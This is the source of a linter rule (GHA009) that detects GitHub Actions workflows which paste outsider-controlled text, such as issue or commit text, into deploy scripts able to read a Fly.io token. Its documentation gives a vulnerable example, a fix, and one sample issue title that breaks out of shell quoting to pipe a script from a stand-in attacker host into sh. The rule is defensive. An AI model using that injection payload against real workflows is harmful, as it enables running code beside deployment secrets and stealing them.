"""Text from outside the repository is pasted into a script of a job that can read the Fly.io token.

## What it does
Reports a `${{ … }}` expression in a `run:` script (or in `actions/github-script`'s `script:`)
of a job that deploys to Fly.io or can read the Fly.io token, when the expression's value can
carry text that someone outside the repository chooses, under a trigger that runs with the
repository's secrets for them:

- issue titles and bodies, comment bodies, discussion titles and bodies, wiki page names
  (`issues`, `issue_comment`, `discussion`, `discussion_comment`, `commit_comment`, `gollum`);
- pull request titles, bodies and branch names (`github.head_ref`, `…pull_request.head.ref`)
  under `pull_request_target`;
- commit messages and author names and e-mails (`github.event.head_commit.message`,
  `github.event.commits`) under `push`: merged pull requests bring them in;
- the triggering run's branch name, title or commit message under `workflow_run`.

A value whose result is a boolean or a number (`github.event.issue.title != ''`,
`contains(github.event.comment.body, '/deploy')`), and fields GitHub restricts to safe
characters (numbers, SHAs, ids, repository and login names) are not reported. `env.NAME` is
followed to the `env:` entry it reads. In a reusable workflow (`workflow_call`) the caller's
event is unknown, and only fields that every event filling them in exposes to outsiders
(commit messages, issue text, `workflow_run` data) are reported here; pull request fields there
are GHA010.

## Why is this bad?
GitHub replaces the expression with its value before the shell reads the script, so the value
becomes part of the script. An issue titled `x"; curl -sSf https://evil.example/x | sh; echo "`
runs the attacker's commands in the job, next to `FLY_API_TOKEN`: they can print it, deploy
their own image or destroy apps. Even without an attacker, a commit message with a quote or a
backtick breaks the deploy script.

## Severity
Error: the workflow shows the hole: outside text is pasted into a script that can read the
Fly.io token, so whoever writes that text runs code with it.

## Example
```yaml
on:
  issue_comment:
    types: [created]
jobs:
  deploy:
    steps:
      - run: |
          echo "Deploy requested: ${{ github.event.comment.body }}"
          flyctl deploy --remote-only
        env:
          FLY_API_TOKEN: ${{ secrets.FLY_API_TOKEN }}
```

Use instead:
```yaml
      - run: |
          echo "Deploy requested: $COMMENT_BODY"
          flyctl deploy --remote-only
        env:
          COMMENT_BODY: ${{ github.event.comment.body }}
          FLY_API_TOKEN: ${{ secrets.FLY_API_TOKEN }}
```
An environment variable is data to the shell: quote it (`"$COMMENT_BODY"`) and it is never
parsed as code.

## Fix safety
No fix: the variable has to be named and quoted where the script uses it.

## References
- GitHub Docs, "Security hardening for GitHub Actions", understanding the risk of script injections: https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
- GitHub Security Lab, "Keeping your GitHub Actions and workflows secure Part 2: Untrusted input": https://securitylab.github.com/resources/github-actions-untrusted-input/
- zizmor `template-injection`; actionlint expression checks
- CWE-78: OS Command Injection; CWE-94: Code Injection
"""

from __future__ import annotations

from collections.abc import Iterator

from flylint.linter.model import Violation
from flylint.linter.parsers.workflow import Workflow
from flylint.linter.registry import RuleContext, rule
from flylint.rules.workflow._fly import fly_jobs
from flylint.rules.workflow._injection import injections, message


@rule(code="GHA009", name="expression-injection", target="workflow", severity="error",
      tags=("security", "injection"), cwe=(78, 94), controls=("SOC2-CC6.1", "SOC2-CC8.1"))
def check(wf: Workflow, ctx: RuleContext) -> Iterator[Violation]:
    if not fly_jobs(wf):
        ctx.not_applicable("no job that deploys to Fly.io or reads its token")
        return
    for inj in injections(wf):
        if inj.kind == "privileged":
            yield Violation(wf.source.span(inj.start, inj.end), message(inj, privileged=True))
